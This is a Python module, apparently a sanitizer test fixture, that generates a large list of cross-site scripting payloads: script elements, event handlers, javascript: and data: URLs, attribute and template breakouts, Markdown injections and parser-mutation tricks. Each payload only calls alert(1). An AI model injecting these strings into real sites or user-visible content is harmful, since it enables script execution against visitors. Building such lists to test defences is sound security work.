"""Scripts as attackers write them into what others will see. Each would call alert() if it ran.

Collected by form: elements that run code, attributes that do, addresses that are code, ways out of the place a value
stands in, Markdown that becomes any of these, and what a parser may mend into one.
"""

_RUN = "alert(1)"
_ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script type=module>{_RUN}</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script src=//127.0.0.1:9/x.js></script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:,{_RUN} /></svg>",
    f"<math><mtext></mtext><script>{_RUN}</script></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';*{background:url(javascript:alert(1))}</style>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<portal src=javascript:alert(1)>",
    "<frameset onload=alert(1)>",
    "<applet code=javascript:alert(1)>",
    "<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
]
_TAGS = [
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "a href=#",
    "div style=width:9999px;height:9999px", "select autofocus", "object data=x", "p", "math", "custom-x",
]  # fmt: skip
_EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onanimationstart"]
_ATTRIBUTES = [f"<{tag} {event}={_RUN}>" for tag in _TAGS for event in _EVENTS]
_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjava\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "//javascript:alert(1)",
    "javascript\u200b:alert(1)",
    "https://x.example/\"onmouseover=\"alert(1)",
]  # fmt: skip
_WAYS = [
    "<a href='{}'>x</a>",
    "[x]({})",
    "![x]({})",
    "[x]: {}\n\n[x]",
    "<{}>",
    "<img src='{}'>",
    "<a xlink:href='{}'>x</a>",
]
_OUTS = [
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ '<script>alert(1)</script>'|safe }}",
    "{% autoescape off %}<script>alert(1)</script>",
    "${alert(1)}",
    "`-alert(1)-`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028alert(1)\u2029//",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]  # fmt: skip
_MENDED = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<table><td><a href='x\"><img src=x onerror=alert(1)>'>x</a></td></table>",
    "<img alt='`><img src=x onerror=alert(1)>'>",
    "<a href='https://x.example/`onmouseover=alert(1)'>x</a>",
    "```x\"><script>alert(1)</script>\ncode\n```",
    "```<script>alert(1)</script>\ncode\n```",
    "# x <script>alert(1)</script>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <img src=x onerror=alert(1)>",
    "- <svg/onload=alert(1)>",
    "~~<script>alert(1)</script>~~",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=\"https://x.example\" class=\"skip\" style=\"position:fixed;inset:0\" onclick=alert(1)>x</a>",
]  # fmt: skip

PAYLOADS = [
    *_ELEMENTS,
    *_ATTRIBUTES,
    *(way.format(address) for way in _WAYS for address in _ADDRESSES),
    *_OUTS,
    *_MENDED,
]
